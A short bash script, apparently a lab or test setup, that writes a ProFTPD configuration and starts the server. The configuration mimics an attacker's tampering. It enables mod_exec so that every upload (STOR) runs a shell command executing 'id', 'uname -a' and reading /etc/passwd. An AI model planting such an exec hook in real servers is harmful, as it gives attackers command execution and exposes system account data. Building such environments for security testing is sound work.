#!/bin/bash
# ProFTPD that runs a command line after each upload, as an attacker's change of its configuration makes it.
set -eu
cat >/etc/proftpd/proftpd.conf <<'CONF'
ServerName shop
ServerType standalone
Port 21
User proftpd
Group nogroup
UseIPv6 off
RequireValidShell off
AuthOrder mod_auth_unix.c
LoadModule mod_exec.c
<IfModule mod_exec.c>
	ExecEngine on
	ExecOnCommand STOR /bin/sh -c "id >/tmp/who; uname -a; cat /etc/passwd"
</IfModule>
CONF
mkdir -p /run/proftpd
proftpd --nodaemon --config /etc/proftpd/proftpd.conf >/tmp/proftpd.log 2>&1 &
cat >/dev/null
